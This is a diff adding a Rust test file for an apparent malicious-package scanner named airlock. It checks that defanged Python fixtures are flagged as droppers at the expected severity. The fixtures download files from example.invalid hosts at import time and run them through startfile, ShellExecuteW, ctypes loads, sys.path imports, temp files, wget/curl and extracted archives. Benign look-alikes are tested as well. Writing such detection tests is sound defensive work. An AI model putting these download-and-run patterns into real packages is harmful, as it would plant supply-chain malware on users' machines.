@@ -1,0 +1,164 @@
+//! Droppers and call spellings tester t11 found graded too low: a file downloaded and run at
+//! load through runners other than a process (`os.startfile`, `ShellExecuteW`, a ctypes
+//! library load, an import from a folder put on `sys.path`), downloaded data reaching a file
+//! other ways (a temporary file's handle, `mkstemp`'s descriptor, `copyfileobj` from a response
+//! opened by `with`, a downloader's output folder, an archive extracted from a download), and a
+//! download and a run in two functions both called at load. Fixtures are written here,
+//! defanged (commands only `echo`, hosts under `example.invalid`), and scanned; nothing is
+//! executed. Benign look-alikes stay below medium.
+
+use std::path::Path;
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Severity;
+use airlock::scan::{scan_file, FileReport};
+
+/// Scan `src` written as `name` (a path under a fresh folder).
+fn scan(name: &str, src: &str) -> FileReport {
+    let dir = tempfile::tempdir().expect("tempdir");
+    write(dir.path(), name, src);
+    scan_file(&dir.path().join(name), BudgetLimits::default())
+}
+
+fn write(root: &Path, name: &str, src: &str) {
+    let p = root.join(name);
+    if let Some(parent) = p.parent() {
+        std::fs::create_dir_all(parent).expect("mkdir");
+    }
+    std::fs::write(&p, src).expect("write");
+}
+
+/// The worst severity of `rule` anywhere in the report.
+fn worst(r: &FileReport, rule: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.rule.id == rule)
+        .map(|f| f.severity)
+        .max()
+}
+
+fn summary(r: &FileReport) -> Vec<String> {
+    r.findings
+        .iter()
+        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.evidence))
+        .collect()
+}
+
+/// Every (file, source, rule, severity) case: the worst finding of `rule` must be `severity`.
+fn check(cases: &[(&str, &str, &str, Option<Severity>)]) {
+    let mut failures = Vec::new();
+    for (name, src, rule, want) in cases {
+        let r = scan(name, src);
+        let got = worst(&r, rule);
+        if got != *want {
+            failures.push(format!(
+                "{name}: want {rule} {want:?}, got {got:?}\n{src}\n{:#?}",
+                summary(&r)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+/// Every (file, source): nothing at medium or above.
+fn benign(cases: &[(&str, &str)]) {
+    let mut failures = Vec::new();
+    for (name, src) in cases {
+        let r = scan(name, src);
+        if r.worst().is_some_and(|w| w >= Severity::Medium) {
+            failures.push(format!("{name}:\n{src}\n{:#?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+const EXEC: &str = "python-exec-computed";
+
+/// Runners that are no process call: the file is opened with its program, its library loaded,
+/// or its module imported from a folder the code put on `sys.path` (t11 dr00, dr15–dr18).
+#[test]
+fn files_run_by_startfile_shellexecute_ctypes_and_import_are_droppers() {
+    use Severity::*;
+    check(&[
+        ("demo/__init__.py", "import os, urllib.request\np = os.path.join(os.environ.get('TEMP', '/tmp'), 'x.exe')\nurllib.request.urlretrieve('https://c.example.invalid/x', p)\nos.startfile(p)\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import ctypes, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', 'C:/Users/Public/x.exe')\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'C:/Users/Public/x.exe', None, None, 0)\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import ctypes, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "from ctypes import cdll\nimport urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.so')\ncdll.LoadLibrary('/tmp/x.so')\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimport xmod\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import sys, importlib, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimportlib.import_module('xmod')\n", EXEC, Some(Critical)),
+        // A folder that is not a constant: the file joined onto its name.
+        ("demo/__init__.py", "import os, sys, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('https://c.example.invalid/m', os.path.join(d, 'm.py'))\nsys.path.append(d)\nfrom m import run\n", EXEC, Some(Critical)),
+        // `os.startfile` of the download in a function nothing calls: a tool on request.
+        ("demo/tools.py", "import os, urllib.request\ndef show(url):\n    urllib.request.urlretrieve(url, 'r.pdf')\n    os.startfile('r.pdf')\n", EXEC, Some(Low)),
+        // Another module imported after the folder was put on `sys.path`.
+        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimport json\n", EXEC, None),
+        // The folder put on `sys.path` is not where the file went.
+        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/opt/lib')\nimport xmod\n", EXEC, None),
+    ]);
+}
+
+/// Downloaded data reaching a file through a temporary file's handle or descriptor, a response
+/// opened by `with` and copied, a downloader's output folder, and an archive extracted from a
+/// download (t11 dr04, dr05, dr06, dr10, dr11).
+#[test]
+fn downloads_through_handles_folders_and_archives_are_droppers() {
+    use Severity::*;
+    check(&[
+        ("demo/__init__.py", "import os, subprocess, tempfile, requests\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get('https://c.example.invalid/x').content)\nf.close()\nos.chmod(f.name, 0o755)\nsubprocess.Popen([f.name])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import subprocess, tempfile, requests\nwith tempfile.NamedTemporaryFile(delete=False, suffix='.exe') as f:\n    f.write(requests.get('https://c.example.invalid/x').content)\nsubprocess.Popen([f.name])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import os, subprocess, tempfile, requests\nfd, p = tempfile.mkstemp()\nos.write(fd, requests.get('https://c.example.invalid/x').content)\nos.close(fd)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\nfd, p = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('https://c.example.invalid/x').read())\nsubprocess.call(['sh', p])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import os, shutil, subprocess, urllib.request\nwith urllib.request.urlopen('https://c.example.invalid/x') as r, open('/tmp/x', 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.chmod('/tmp/x', 0o755)\nsubprocess.call('/tmp/x')\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.run(['wget', '-P', '/tmp', 'https://c.example.invalid/x'])\nsubprocess.run(['sh', '/tmp/x'])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.run(['wget', '--directory-prefix=/tmp/c', 'https://c.example.invalid/x'])\nsubprocess.run(['/tmp/c/x'])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.run(['curl', '-sL', '--output-dir', '/tmp/c', '-O', 'https://c.example.invalid/x'])\nsubprocess.run(['/tmp/c/x'])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xd/run'])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import os, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/a.zip')\nwith zipfile.ZipFile('/tmp/a.zip') as z:\n    z.extractall('/tmp/a')\nos.startfile('/tmp/a/x.exe')\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import shutil, subprocess, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/a.zip')\nshutil.unpack_archive('/tmp/a.zip', '/tmp/b')\nsubprocess.call(['/tmp/b/y'])\n", EXEC, Some(Critical)),
+        ("demo/__init__.py", "import io, tarfile, subprocess, requests\nr = requests.get('https://c.example.invalid/x.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('/tmp/t')\nsubprocess.Popen(['/tmp/t/bin/run'])\n", EXEC, Some(Critical)),
+        // A run of a file outside the extracted folder.
+        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xdd/run'])\n", EXEC, None),
+        // The archive extracted is not the one downloaded.
+        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/opt/y.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xd/run'])\n", EXEC, None),
+    ]);
+}
+
+/// A download in one function and a run in another, both called at load: the file named by a
+/// constant or a module-level name (t11 dr14). Locals of the same spelling in two functions
+/// are two files.
+#[test]
+fn downloads_and_runs_in_two_functions_called_at_load_are_droppers() {
+    use Severity::*;
+    check(&[
+        ("demo/__init__.py", "import os, subprocess, urllib.request\nP = '/tmp/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    os.chmod(P, 0o755)\n    subprocess.Popen([P])\ndl()\nrun()\n", EXEC, Some(High)),
+        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\nP = os.path.join(tempfile.gettempdir(), 'x')\ndef run():\n    subprocess.Popen([P])\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndl()\nrun()\n", EXEC, Some(High)),
+        // The run's function is never called at load.
+        ("demo/__init__.py", "import subprocess, urllib.request\nP = '/tmp/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    subprocess.Popen([P])\ndl()\n", EXEC, None),
+        // Two locals named alike.
+        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\ndef fetch():\n    p = os.path.join(tempfile.gettempdir(), 'model.bin')\n    urllib.request.urlretrieve('https://c.example.invalid/x', p)\ndef build():\n    p = 'make'\n    subprocess.call([p])\nfetch()\nbuild()\n", EXEC, None),
+        ("demo/__init__.py", "import subprocess, urllib.request\ndef get(url, p):\n    urllib.request.urlretrieve(url, p)\ndef run(p):\n    subprocess.call([p])\nget('https://c.example.invalid/x', 'data.bin')\nrun('ls')\n", EXEC, None),
+    ]);
+}
+
+/// What the droppers above must not catch.
+#[test]
+fn downloads_not_run_and_own_files_stay_below_medium() {
+    benign(&[
+        // A prebuilt tarball fetched at install and extracted, never run.
+        ("demo/__init__.py", "import os, tarfile, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://c.example.invalid/prebuilt.tar.gz', 'prebuilt.tar.gz')\n    with tarfile.open('prebuilt.tar.gz') as t:\n        t.extractall('lib')\n"),
+        // The package's own submodules, imported by name.
+        ("demo/__init__.py", "import importlib\nfor name in ('core', 'utils', 'io'):\n    importlib.import_module('.' + name, __name__)\nfor name in ['demo.core', 'demo.utils']:\n    importlib.import_module(name)\n"),
+        // The package's own library.
+        ("demo/__init__.py", "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n"),
+        ("demo/__init__.py", "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nimport _vendored\n"),
+        // Opening a file on request.
+        ("demo/__init__.py", "import os\ndef open_report(path):\n    os.startfile(path)\n"),
+    ]);
+    // At install the download stays what it is alone: network at install, medium.
+    let r = scan(
+        "setup.py",
+        "import tarfile, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://c.example.invalid/prebuilt.tar.gz', 'prebuilt.tar.gz')\nwith tarfile.open('prebuilt.tar.gz') as t:\n    t.extractall('demo/lib')\nsetup(name='demo')\n",
+    );
+    assert_eq!(worst(&r, EXEC), None, "{:#?}", summary(&r));
+    assert_eq!(r.worst(), Some(Severity::Medium), "{:#?}", summary(&r));
+}
